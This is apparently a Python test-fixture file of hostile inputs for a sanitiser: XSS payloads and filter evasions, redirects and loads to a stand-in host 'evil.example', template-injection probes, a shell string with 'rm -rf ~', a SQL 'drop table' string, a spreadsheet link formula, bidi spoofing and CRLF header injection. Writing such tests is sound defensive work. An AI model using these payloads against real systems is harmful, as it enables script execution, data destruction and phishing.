"""What a hostile producer, receiver or worker would write, in the hope that a page runs it.

Whatever runs raises an alert, sets `window.ran`, or makes an element with `data-xss`. The kinds are
those of OWASP's cheat sheet of filter evasion and of the usual lists of polyglots.
"""

RUN = "window.ran=document.title=alert(1)"
# What a template would make of it, and no page would say by itself.
SUM, SUM_RUN = "1337*7331", str(1337 * 7331)
AWAY = "http://evil.example"
OVERRIDE, ISOLATE = "\u202e", "\u2067"  # turn what stands beside them around

TAGS = {
    "script": f"<script data-xss>{RUN}</script>",
    "image": f"<img data-xss src=x onerror={RUN}>",
    "vector": f"<svg data-xss onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "closes": f"</td></table></pre></textarea></title></script><script data-xss>{RUN}</script>",
    "comment": f"--><script data-xss>{RUN}</script><!--",
    "cdata": f"]]><script data-xss>{RUN}</script>",
    "details": f"<details data-xss open ontoggle={RUN}>",
    "frame": f'<iframe data-xss srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "leaves": f'<meta data-xss http-equiv=refresh content="0;url={AWAY}">',
    "base": f'<base data-xss href="{AWAY}/">',
    "loads": f'<link data-xss rel=stylesheet href="{AWAY}/x.css"><img data-xss src="{AWAY}/x.png">',
    "form": f'<form data-xss action="{AWAY}"><input autofocus onfocus={RUN}></form>',
    "htmx": f'<div data-xss hx-get="{AWAY}" hx-trigger="load" hx-on::load="{RUN}"></div>',
    "style": "<style data-xss>body{display:none}</style><div data-xss style=position:fixed>",
}
ATTRIBUTES = {
    "double": f'" data-xss onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "single": f"' data-xss onfocus='{RUN}' autofocus tabindex='0' x='",
    "bare": f"x data-xss onfocus={RUN} autofocus tabindex=0",
    "json": f"\"}}'><img data-xss src=x onerror={RUN}>",
}
ADDRESSES = {
    "javascript": f"javascript:{RUN}//",
    "spelled": f"java&#115;cript&colon;{RUN}",
    "cased": f"JaVaScRiPt:{RUN}",
    "data": f"data:text/html,<script data-xss>{RUN}</script>",
    "other": f"//{AWAY.removeprefix('http://')}/x",
}
CODE = {
    "template": f"{{{{{SUM}}}}}{{% print({SUM}) %}}${{{SUM}}}<%= {SUM} %>#{{{SUM}}}",
    "literal": f"`${{{RUN}}}`\\\";{RUN}//\\';{RUN}//",
    "separators": f"\u2028{RUN}\u2029",
    "entities": f"&lt;img data-xss src=x onerror={RUN}&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
    "wide": f"\uff1cscript data-xss\uff1e{RUN}\uff1c/script\uff1e",
    "shell": '\'; rm -rf ~; echo "$(id)" `id` \\',
    "sql": "'; drop table notify.notifications; --",
    "formula": '=HYPERLINK("http://evil.example","log in")',
}
SIGHT = {
    "bidi": f"safe{OVERRIDE}gnp.exe{ISOLATE} end",
    "invisible": "ad\u200bm\u00adin\u2060 \ufeff",
    "stacked": "Z" + "\u0300\u0301\u0302\u0303\u0304" * 40,
    "emoji": "👩‍👩‍👧‍👦🏴\u200d☠️" * 10,
    "empty": "\u3164",
    "tall": "\ufdfd" * 40,
}
SHORT = TAGS | ATTRIBUTES | ADDRESSES | CODE | SIGHT
LONG = {
    "word": "W" * 8192,
    "digits": "9" * 8192,
    "wide word": "\uff37" * 4000,
}
# A payload or an excerpt may have these; accept() keeps them out of all else.
CONTROLS = {"controls": "a\x01b\x07c\x1b[31md\x7fe\x85f", "lines": "first\r\nSet-Cookie: a=b\nlast"}


def printable(text: str) -> str:
    """Take out what a name may not hold: accept() would refuse it."""
    return text.replace("\u2028", "").replace("\u2029", "")
